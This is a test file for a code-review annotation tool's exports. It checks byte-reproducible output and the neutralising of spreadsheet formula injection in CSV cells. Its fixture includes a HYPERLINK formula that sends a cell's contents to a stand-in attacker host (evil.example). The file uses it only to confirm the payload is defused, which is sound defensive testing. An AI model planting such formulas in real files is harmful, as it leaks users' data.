/**
 * Exports are reproducible and safe to open in a spreadsheet: the same data gives the same bytes in
 * every format whatever order its rows lie in the tables and whenever it is exported; CSV cells a
 * spreadsheet would read as formulas (texts, notes, annotator names) come out as text, while JSONL,
 * the workbook and `--raw` keep them; the long and wide CSV carry the claims' and reviews' texts;
 * and a study is offered, and can be given, only the formats it has data for.
 */
import { createHash } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, inject, test, vi } from "vitest";
import { createClient, type PrismaClient } from "@/lib/db/client";
import { EXPORT_FORMATS, type ExportRequest } from "@/lib/export";
import { exportOffer, prepareExport, streamExport } from "@/lib/data/exports";
import { runImport } from "@/lib/data/imports";
import { COMMAND_LINE } from "@/lib/data/study-access";
import { importTestResults } from "@/lib/data/test-outcomes";
import { cli } from "./cli";
import { imported, jsonlFile } from "./import-fixtures";

const client: PrismaClient = createClient(inject("databaseUrl"));
const STUDY = "export-reproducible";
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
/** In the file's order, which is not the names' order: the annotations of an import keep the file's. */
const ANNOTATORS = ["repro zoe", "repro amy", "@repro max"];

/** Code changes whose annotations have no times (they get the import's, one time for all), with texts and notes that start like formulas. */
function fixture(): { name: string; content: Buffer } {
  const each = <T>(make: (annotator: string, k: number) => T) => ANNOTATORS.map(make);
  const line = (id: string, c: number) =>
    JSON.stringify({
      id,
      language: "python",
      diff: "@@ -1 +1 @@\n-x = 1\n+x = 2\n",
      newFile: "x = 2\n",
      pseudoReferences: [
        { id: "c1", text: "=1+1", kind: "CLAIM", source: "gpt-4o", judgements: each((annotator, k) => ({ annotator, code: ["CORRECT", "INCORRECT", "UNVERIFIABLE"][(k + c) % 3], note: k === 0 ? HYPERLINK : "" })) },
        { id: "c2", text: "-x is no longer read.", kind: "CLAIM", source: "gpt-4o", judgements: each((annotator, k) => ({ annotator, code: "CORRECT", necessary: k !== 1 })) },
      ],
      reviews: [
        { id: "human", system: "human", text: "@dev why 2?", isReference: true, ratings: each((annotator, k) => ({ annotator, scores: { conciseness: 1 + k, comprehensiveness: 3, relevance: 5 - k }, addresses: ["c1"], partiallyAddresses: k === 2 ? ["c2"] : [] })) },
        { id: "m1", system: "llama3", text: "+1, looks fine.", grades: each((annotator, k) => ({ annotator, grade: 1 + ((k + c) % 5), comment: k === 1 ? "-close" : null })), commentFilters: each((annotator, k) => ({ annotator, highQuality: k % 2 === 0, justification: "\tindented" })) },
        { id: "m2", system: "codellama", text: "Rename x.", grades: each((annotator, k) => ({ annotator, grade: 2 + k })) },
      ],
    });
  return { name: "reproducible.jsonl", content: Buffer.from(`${["a", "b", "c"].map(line).join("\n")}\n`) };
}

/** A pull request with review comments (a range, a whole-file comment, a reply whose line comes before what it answers). */
function pullRequestBundle(): { name: string; content: Buffer } {
  const lines = [
    { type: "pullRequest", id: "acme/api#3", repository: "acme/api", url: "https://github.com/acme/api/pull/3", title: "Retry", headSha: "b".repeat(40), baseSha: "a".repeat(40), mergeBaseSha: "a".repeat(40) },
    { type: "file", status: "MODIFIED", path: "retry.py", oldContents: "x = 1\ny = 2\n", newContents: "x = 2\ny = 2\nz = 3\n" },
    { type: "file", status: "ADDED", path: "notes.md", newContents: "=SUM(A1)\n" },
    { type: "comment", id: 9, path: "retry.py", line: 3, body: "+ why z?", system: "gpt-4o", author: "bot-account", inReplyToId: 7 },
    { type: "comment", id: 7, path: "retry.py", startLine: 1, line: 2, body: "=HYPERLINK(1)", system: "human", author: "ada", metadata: { severity: "high" } },
    { type: "comment", id: 8, path: "notes.md", body: "Whole file.", system: "coderabbit" },
  ];
  return { name: "pull-request.jsonl", content: Buffer.from(`${lines.map((l) => JSON.stringify(l)).join("\n")}\n`) };
}

let studyId = "";

beforeAll(async () => {
  studyId = imported(await runImport({ study: STUDY, format: "jsonl", files: [fixture()] }, client)).study.id;
  imported(await runImport({ study: STUDY, format: "pull-request", files: [pullRequestBundle()] }, client));
  // Test outcomes of two systems, one tied to the human comment, given out of order.
  const outcomes = [
    { pr: "acme/api#3", system: "gpt-4o", test: "t2", outcome: "failed", message: "=1+1" },
    { pr: "acme/api#3", system: "coderabbit", test: "t1", outcome: "passed", comment: 7, durationSeconds: 0.5 },
    { pr: "acme/api#3", system: "gpt-4o", test: "t1", outcome: "passed", comment: 7 },
  ];
  expect(await importTestResults(COMMAND_LINE, { study: STUDY, files: [{ name: "outcomes.jsonl", content: Buffer.from(outcomes.map((o) => JSON.stringify(o)).join("\n")) }] }, client)).toMatchObject({ status: "imported" });
  // A known answer (gold) and an adjudicated value, so the exports with and without gold differ.
  const claim = await client.pseudoReference.findFirstOrThrow({ where: { externalId: "c2", codeChange: { studyId, externalId: "c" } } });
  const review = await client.review.findFirstOrThrow({ where: { externalId: "m1", codeChange: { studyId, externalId: "b" } } });
  const lead = await client.account.findFirstOrThrow({ where: { name: ANNOTATORS[0] } });
  await client.consensus.create({ data: { studyId, task: "CLAIM_VERIFICATION", itemId: claim.id, question: "code", value: "CORRECT", decidedById: lead.id, gold: true } });
  await client.consensus.create({ data: { studyId, task: "REFERENCE_GRADING", itemId: review.id, question: "grade", value: 4, decidedById: lead.id } });
});

afterAll(async () => {
  await client.study.deleteMany({ where: { slug: { startsWith: STUDY } } });
  await client.$disconnect();
});

async function bytesOf(request: ExportRequest): Promise<Buffer> {
  const parts: Buffer[] = [];
  for await (const chunk of streamExport(request, client)) parts.push(Buffer.from(chunk));
  return Buffer.concat(parts);
}

const text = async (request: Omit<ExportRequest, "studyId">) => (await bytesOf({ ...request, studyId })).toString("utf8");

const sha256 = (bytes: Buffer) => createHash("sha256").update(bytes).digest("hex");

/** The hash of every format with and without gold, the workbook also with one grader's grades, exported at the (faked) time `now`. */
async function everyExport(now: Date): Promise<Record<string, string>> {
  vi.useFakeTimers({ toFake: ["Date"], now });
  try {
    const out: Record<string, string> = {};
    for (const format of EXPORT_FORMATS) {
      for (const includeGold of [false, true]) out[`${format}${includeGold ? " with gold" : ""}`] = sha256(await bytesOf({ studyId, format, includeGold }));
    }
    out["gradedreviews of repro amy"] = sha256(await bytesOf({ studyId, format: "gradedreviews", annotator: "repro amy" }));
    return out;
  } finally {
    vi.useRealTimers();
  }
}

/** The tables the exports read, with their keys. */
const TABLES: [string, string][] = [
  ["CodeChange", "id"],
  ["PseudoReference", "id"],
  ["CandidateReview", "id"],
  ["ClaimJudgement", "id"],
  ["ReviewRating", "id"],
  ["ReviewClaimLink", `"ratingId" DESC, "pseudoReferenceId"`],
  ["ReferenceGrade", "id"],
  ["CommentFilterLabel", "id"],
  ["Assignment", "id"],
  ["Consensus", "id"],
  ["User", "id"],
  ["PullRequest", "id"],
  ["ReviewComment", "id"],
  ["TestOutcome", "id"],
];

/** Each table written again in descending key order (CLUSTER on a descending index): an import writes its rows in ascending order of their ids. */
async function rewriteInReverse(): Promise<void> {
  for (const [table, key] of TABLES) {
    const index = `${table}_export_reproducible`;
    await client.$executeRawUnsafe(`CREATE INDEX "${index}" ON "${table}" (${key.includes(" ") ? key : `"${key}" DESC`})`);
    await client.$executeRawUnsafe(`CLUSTER "${table}" USING "${index}"`);
    await client.$executeRawUnsafe(`DROP INDEX "${index}"`);
  }
}

const gradesInTableOrder = async () => (await client.$queryRawUnsafe<{ id: string }[]>(`SELECT g.id FROM "ReferenceGrade" g JOIN "CandidateReview" r ON r.id = g."candidateReviewId" JOIN "CodeChange" c ON c.id = r."codeChangeId" WHERE c."studyId" = $1 ORDER BY g.ctid`, studyId)).map((r) => r.id);

describe("reproducible exports", () => {
  test("every format, with and without gold, is the same bytes after every row is rewritten in reverse order, and a day later", async () => {
    const before = await everyExport(new Date("2026-01-05T10:00:00Z"));
    const order = await gradesInTableOrder();
    expect(order).toEqual([...order].sort());
    await rewriteInReverse();
    expect(await gradesInTableOrder()).toEqual([...order].reverse());
    const after = await everyExport(new Date("2026-01-06T10:00:07Z"));
    expect(Object.keys(after)).toHaveLength(2 * EXPORT_FORMATS.length + 1);
    expect(after).toEqual(before);
  });

  test("the annotations of one import (one time) come in the file's order, by id, not in the table's", async () => {
    const change = JSON.parse((await text({ format: "jsonl" })).split("\n")[0]) as { reviews: { id: string; grades: { annotator: string }[]; ratings: { annotator: string }[] }[] };
    expect(change.reviews.find((r) => r.id === "m1")!.grades.map((g) => g.annotator)).toEqual(ANNOTATORS);
    expect(change.reviews.find((r) => r.id === "human")!.ratings.map((g) => g.annotator)).toEqual(ANNOTATORS);
    const long = parse(await text({ format: "long-csv" }), { columns: true }) as Record<string, string>[];
    expect(long.filter((r) => r.codeChange === "a" && r.item === "m1" && r.question === "grade").map((r) => r.annotator)).toEqual(["repro zoe", "repro amy", "'@repro max"]);
  });
});

describe("texts in the CSV exports", () => {
  test("long CSV: the claim's and review's text next to its id; texts, notes and names that start like formulas come out as text, numbers as numbers", async () => {
    const rows = parse(await text({ format: "long-csv" }), { columns: true }) as Record<string, string>[];
    const c1 = rows.filter((r) => r.codeChange === "a" && r.item === "c1");
    expect(c1.find((r) => r.question === "note")).toMatchObject({ itemText: "'=1+1", itemKind: "pseudoReference", annotator: "repro zoe", value: `'${HYPERLINK}` });
    expect(c1.filter((r) => r.question === "code").map((r) => [r.annotator, r.value])).toEqual([
      ["repro zoe", "1"],
      ["repro amy", "0"],
      ["'@repro max", "-1"],
    ]);
    expect(rows.find((r) => r.item === "c2")).toMatchObject({ itemText: "'-x is no longer read." });
    expect(rows.find((r) => r.item === "human")).toMatchObject({ itemText: "'@dev why 2?", system: "human" });
    const m1 = rows.filter((r) => r.codeChange === "a" && r.item === "m1");
    expect(m1[0].itemText).toBe("'+1, looks fine.");
    expect(m1.find((r) => r.question === "comment")).toMatchObject({ value: "'-close" });
    expect(m1.find((r) => r.question === "justification")).toMatchObject({ value: "'\tindented" });
    // Every cell: none starts like a formula unless it is a plain number.
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
  });

  test("wide CSV: the texts next to the ids and the annotators' column names as text; JSONL, raw CSV and the workbook keep the texts", async () => {
    const wide = parse(await text({ format: "wide-csv" }), { columns: true }) as Record<string, string>[];
    const header = Object.keys(wide[0]);
    expect(header.slice(0, 7)).toEqual(["task", "codeChange", "item", "itemText", "itemKind", "system", "question"]);
    expect(header.slice(7, -1).sort()).toEqual(["'@repro max", "repro amy", "repro zoe"]);
    expect(wide.find((r) => r.codeChange === "a" && r.item === "c1" && r.question === "note")).toMatchObject({ itemText: "'=1+1", "repro zoe": `'${HYPERLINK}` });
    expect(wide.find((r) => r.codeChange === "a" && r.item === "c1" && r.question === "code")).toMatchObject({ "'@repro max": "-1" });

    const longJsonl = (await text({ format: "long-jsonl" })).trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(longJsonl.find((r) => r.item === "c1" && r.question === "note")).toMatchObject({ itemText: "=1+1", annotator: "repro zoe", value: HYPERLINK });
    expect((await text({ format: "jsonl" })).split("\n")[0]).toContain(JSON.stringify(HYPERLINK));

    const raw = parse(await text({ format: "long-csv", raw: true }), { columns: true }) as Record<string, string>[];
    expect(raw.find((r) => r.item === "c1" && r.question === "note")).toMatchObject({ itemText: "=1+1", value: HYPERLINK });
    expect(parse(await text({ format: "wide-csv", raw: true }))[0]).toContain("@repro max");

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await bytesOf({ studyId, format: "gradedreviews" })) as unknown as ExcelJS.Buffer);
    const row = workbook.getWorksheet("工作表1")!.getRow(2);
    expect([row.getCell(2).value, row.getCell(4).value]).toEqual(["@dev why 2?", "+1, looks fine."]);
    expect(row.getCell(4).type).toBe(ExcelJS.ValueType.String);
  });

  test("the command line neutralises as the page does, and --raw keeps the texts", async () => {
    const dir = mkdtempSync(path.join(tmpdir(), "crjudge-export-raw-"));
    try {
      for (const raw of [false, true]) {
        const out = path.join(dir, `${raw}.long.csv`);
        expect((await cli("export", "--study", STUDY, "--format", "long", "--out", out, ...(raw ? ["--raw"] : []))).code).toBe(0);
        const rows = parse(readFileSync(out, "utf8"), { columns: true }) as Record<string, string>[];
        expect(rows.find((r) => r.item === "c1" && r.question === "note")!.value).toBe(raw ? HYPERLINK : `'${HYPERLINK}`);
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});

describe("formats offered with their data", () => {
  test("a study offers what it has data for: code changes (jsonl), annotations (long, wide), grades (the workbook), gold", async () => {
    const offer = await exportOffer(studyId, client);
    expect({ ...offer, graders: [...offer.graders].sort() }).toEqual({ formats: [...EXPORT_FORMATS], gold: true, graders: ["@repro max", "repro amy", "repro zoe"] });
    const bare = imported(await runImport({ study: `${STUDY}-bare`, format: "jsonl", files: [jsonlFile("bare.jsonl", ["x1"])] }, client)).study;
    expect(await exportOffer(bare.id, client)).toEqual({ formats: ["jsonl"], gold: false, graders: [] });
    const annotator = await client.account.findFirstOrThrow({ where: { name: ANNOTATORS[1] } });
    const review = await client.review.findFirstOrThrow({ where: { codeChange: { studyId: bare.id }, isReference: false } });
    await client.reviewRating.create({ data: { annotatorId: annotator.id, reviewId: review.id, scores: { conciseness: 3 } } });
    expect((await exportOffer(bare.id, client)).formats).toEqual(["jsonl", "long-csv", "long-jsonl", "wide-csv", "wide-jsonl"]);
    const empty = await client.study.create({ data: { slug: `${STUDY}-empty`, name: "empty" } });
    expect((await exportOffer(empty.id, client)).formats).toEqual([]);
  });

  test("a format without its data is refused (409) before anything is written, from the command line too", async () => {
    const bare = await client.study.findUniqueOrThrow({ where: { slug: `${STUDY}-bare` } });
    await expect(prepareExport({ studyId: bare.id, format: "gradedreviews" }, client)).rejects.toMatchObject({ code: "CONFLICT", status: 409, message: "This study has no reference grades yet, so there is nothing to export as gradedreviews." });
    const empty = await client.study.findUniqueOrThrow({ where: { slug: `${STUDY}-empty` } });
    await expect(prepareExport({ studyId: empty.id, format: "long-csv" }, client)).rejects.toMatchObject({ code: "CONFLICT", message: expect.stringContaining("no annotations") });
    await expect(prepareExport({ studyId: empty.id, format: "jsonl" }, client)).rejects.toMatchObject({ code: "CONFLICT", message: expect.stringContaining("no code changes") });
    const out = path.join(mkdtempSync(path.join(tmpdir(), "crjudge-export-refused-")), "workbook.xlsx");
    const refused = await cli("export", "--study", `${STUDY}-bare`, "--format", "gradedreviews", "--out", out);
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toContain("no reference grades");
    expect(existsSync(out)).toBe(false);
  }, 120_000);
});
